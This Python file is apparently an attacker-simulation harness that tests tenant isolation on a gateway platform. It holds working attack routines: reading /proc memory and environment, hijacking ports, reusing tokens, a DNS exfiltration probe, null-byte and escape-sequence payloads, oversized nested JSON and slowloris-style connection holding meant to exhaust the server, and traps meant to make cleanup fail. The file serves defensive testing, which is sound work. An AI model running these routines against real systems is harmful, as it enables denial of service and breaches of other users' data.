"""What an attacker tries. A program of its own that becomes the attacker's account first; standard library only.

It begins as root because the interpreter may lie where that account cannot read, and has nothing of root's but that. Its
input is a JSON document: what the attacker was able to find out (addresses, process numbers, paths, and the tokens
of its own cell). One line of JSON per attempt is printed: its name and, if it got somewhere it must not be, what it found
there; an attempt that was kept out has found nothing.
"""

from __future__ import annotations

import contextlib
import encodings.idna  # noqa: F401 - the sockets module loads it later, when this account cannot
import fcntl
import http.client
import json
import os
import socket
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

Facts = dict[str, Any]
Found = list[str]
Attempt = Callable[[Facts], Found]

_OWN_ADDRESS = "127.0.0.66"  # not the customers' address: what one address has used up is not theirs
_SECONDS = 5.0
_SERVER_ERROR = 500
_IDLE = 400
_NESTED = 100_000
_DEEP = 3000


def claims_lock_folders(facts: Facts) -> Found:
    """Folders that the gateways' own lock code uses by a name that anybody can foresee."""
    for victim in facts["victims"]:
        with contextlib.suppress(OSError):
            Path(f"/tmp/openclaw-state-locks-{victim['uid']}").mkdir()
    return []


def holds_locks(facts: Facts) -> Found:
    found = []
    for path in facts["locks"]:
        with contextlib.suppress(OSError):
            descriptor = os.open(path, os.O_RDWR | os.O_CREAT, 0o666)
            fcntl.flock(descriptor, fcntl.LOCK_EX | fcntl.LOCK_NB)
            found.append(f"holds {path}")
    return found


def reads_files(facts: Facts) -> Found:
    found = []
    for path in facts["files"]:
        with contextlib.suppress(OSError):
            os.close(os.open(path, os.O_RDONLY))
            found.append(f"reads {path}")
    return found


def writes_files(facts: Facts) -> Found:
    found = []
    for folder in facts["folders"]:
        target = Path(folder) / "planted"
        with contextlib.suppress(OSError):
            os.close(os.open(target, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600))
            target.unlink()
            found.append(f"writes into {folder}")
    return found


def looks_into_processes(facts: Facts) -> Found:
    found = []
    for pid in facts["pids"]:
        for name in ("environ", "mem", "maps"):
            with contextlib.suppress(OSError), Path(f"/proc/{pid}/{name}").open("rb") as file:
                file.read(1)
                found.append(f"/proc/{pid}/{name}")
        with contextlib.suppress(OSError):
            os.kill(pid, 0)
            found.append(f"may signal {pid}")
    return found


def connects(facts: Facts) -> Found:
    """Ports and sockets that this account has no business at."""
    found = []
    for host, port in facts["forbidden"]:
        with contextlib.suppress(OSError), socket.create_connection((host, port), timeout=2):
            found.append(f"connected to {host}:{port}")
    for path in facts["sockets"]:
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as client:
            client.settimeout(2)
            client.connect(path)
            found.append(f"connected to {path}")
    return found


def asks_for_names(facts: Facts) -> Found:
    """A question of DNS carries words out of the machine, wherever it is answered."""
    question = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07planted\x07example\x03com\x00\x00\x01\x00\x01"
    found = []
    for host in facts["name_servers"]:
        with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
            client.sendto(question, (host, 53))
            found.append(f"sent a datagram to {host}:53")
    return found


def takes_ports(facts: Facts) -> Found:
    found = []
    for victim in facts["victims"]:
        with contextlib.suppress(OSError), socket.socket() as server:
            server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
            server.bind(("127.0.0.1", victim["port"]))
            server.listen()
            found.append(f"listens on {victim['port']}")
    return found


def uses_foreign_gateways(facts: Facts) -> Found:
    found = []
    for victim in facts["victims"]:
        status = _asked(
            facts | {"port": victim["port"]}, "POST", "/tools/invoke", b'{"tool":"session_status"}', facts["tokens"]
        )
        if status is not None and status not in {401, 403, 404}:
            found.append(f"the gateway of {victim['slug']} answered {status}")
    return found


def uses_tokens_elsewhere(facts: Facts) -> Found:
    """Tokens of a cell open what is theirs, and nothing that is the operators' or another cell's."""
    found = []
    for path in ("/v1/tenants", "/v1/operations", "/v1/admin/cells", "/v1/admin/overview"):
        for token in (None, *facts["tokens"]):
            status = _asked(facts, "GET", path, b"", [token] if token else [])
            if status == 200:
                found.append(f"{path} answered 200")
    for chat in facts["foreign_chats"]:
        body = json.dumps({"chat_id": chat, "text": "planted"}).encode()
        found += [
            f"wrote to chat {chat}"
            for token in facts["tokens"]
            if _asked(facts, "POST", f"/telegram/bot{token}/sendMessage", body, []) == 200
        ]
    return found


def sends_malformed(facts: Facts) -> Found:
    """Bytes that some layer behind the door cannot hold."""
    paths = [
        "/v1/tenants?plan=%00",
        "/v1/checkout/%00",
        "/welcome/%00",
        "/v1/tenants/%1b%5b2J",
        "/%00",
        "/welcome/%ff%fe",
    ]
    bodies = [
        b'{"file_id":"\\u0000"}',
        b'{"offset":"\\u0000"}',
        b'{"text":"\\ud800"}',
        b'{"callback_query_id":"a\\u0000b"}',
    ]
    calls = [("GET", path, b"") for path in paths]
    calls += [("POST", "/v1/checkout", body) for body in bodies]
    for token in facts["tokens"]:
        calls.append(("GET", f"/telegram/file/bot{token}/%00", b""))
        for body in bodies:
            calls += [
                ("POST", f"/telegram/bot{token}/{method}", body)
                for method in ("getFile", "answerCallbackQuery", "sendMessage", "getUpdates")
            ]
        calls.append(("POST", "/llm/v1/chat/completions", b'{"model":"\\u0000","messages":[]}'))
    found = []
    for method, path, body in calls:
        status = _asked(facts, method, path, body, facts["tokens"][:1])
        if status is not None and status >= _SERVER_ERROR and status != 503:
            found.append(f"{method} {path!r} {body!r} answered {status}")
    return found


def sends_big(facts: Facts) -> Found:
    """Documents that cost their reader more than their sender."""
    keys = b"{" + b",".join(b'"k%d":0' % number for number in range(_NESTED)) + b"}"
    arrays = b"[" + b"[]," * 340_000 + b"[]]"
    found = []
    for body in (keys, arrays, keys, arrays):
        status = _asked(facts, "POST", "/v1/checkout", body, [])
        if status is not None and status < 400:
            found.append(f"a document of {len(body)} bytes was accepted: {status}")
    nested = b'{"model":"gpt-5-mini","messages":[' + b'{"a":[' * _NESTED + b"1" + b"]}" * _NESTED + b"]}"
    wide = b'{"model":"gpt-5-mini","messages":[' + b"[],{}," * 1_000_000 + b"1]}"
    for token in facts["tokens"]:
        for body in (nested, wide):
            status = _asked(facts, "POST", "/llm/v1/chat/completions", body, [token])
            if status is not None and status < 400:
                found.append(f"a nested document of {len(body)} bytes was accepted: {status}")
    return found


def sits_on_connections(facts: Facts) -> Found:
    """Connections on which nothing, or only half of a question, is ever sent."""
    held: list[socket.socket] = []
    for number in range(_IDLE):
        with contextlib.suppress(OSError):
            client = _connected(facts)
            held.append(client)
            if number % 2:
                client.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Half: ")
            if number % 4 == 3:
                client.sendall(b"1\r\nContent-Length: 1000\r\n\r\n{")
    time.sleep(facts.get("sits", _SECONDS))  # this is the attack: nothing is waited for
    for client in held:
        client.close()
    return []


def plants_traps(facts: Facts) -> Found:
    """What makes it hard to take this cell's own files away: depth, names, and things that are no files."""
    os.chdir(facts["own"])
    os.mkfifo("never-answers")
    Path("elsewhere").symlink_to("/etc")
    Path(os.fsdecode(b"\xff\n\x1b[2J")).mkdir()
    for _ in range(_DEEP):
        Path("d").mkdir()
        os.chdir("d")
    return []


def _asked(facts: Facts, method: str, path: str, body: bytes, tokens: list[str]) -> int | None:
    """The status that the platform answered, None when it closed the connection or could not be reached."""
    headers = {"Content-Type": "application/json", "Content-Length": str(len(body))}
    if tokens:
        headers["Authorization"] = f"Bearer {tokens[0]}"
    try:
        with contextlib.closing(_connected(facts)) as client:
            lines = [f"{method} {path} HTTP/1.1", "Host: 127.0.0.1", "Connection: close"]
            lines += [f"{name}: {value}" for name, value in headers.items()]
            with contextlib.suppress(
                OSError
            ):  # refused before the end of the body: the answer may be there all the same
                client.sendall("\r\n".join([*lines, "", ""]).encode() + body)
            answer = http.client.HTTPResponse(client)
            answer.begin()
            return answer.status
    except (OSError, http.client.HTTPException):
        return None


def _connected(facts: Facts) -> socket.socket:
    return socket.create_connection(("127.0.0.1", facts["port"]), timeout=_SECONDS, source_address=(_OWN_ADDRESS, 0))


#: From any account of the machine.
STRANGER: tuple[Attempt, ...] = (
    claims_lock_folders,
    holds_locks,
    reads_files,
    writes_files,
    looks_into_processes,
    takes_ports,
    uses_foreign_gateways,
    uses_tokens_elsewhere,
    sends_malformed,
    sends_big,
    sits_on_connections,
)
#: From a cell's account, with the cell's tokens.
CELL: tuple[Attempt, ...] = (*STRANGER, connects, asks_for_names)
#: By a cell whose end is near, against those who take it away.
LEAVING: tuple[Attempt, ...] = (plants_traps,)


def rounds(facts: Facts) -> Iterator[dict[str, Any]]:
    """Every attempt once, and again until the time given is over."""
    ends = time.monotonic() + facts["seconds"]
    while True:
        for name in facts["attempts"]:
            yield {"attempt": name, "found": globals()[name](facts)}
        if time.monotonic() >= ends:
            return


def become(uid: int) -> None:
    """Nothing of root's is left: no group, no way back."""
    os.setgroups([])
    os.setresgid(uid, uid, uid)
    os.setresuid(uid, uid, uid)


if __name__ == "__main__":
    known = json.load(sys.stdin)
    become(known["uid"])
    for line in rounds(known):
        sys.stdout.write(json.dumps(line) + "\n")
        sys.stdout.flush()
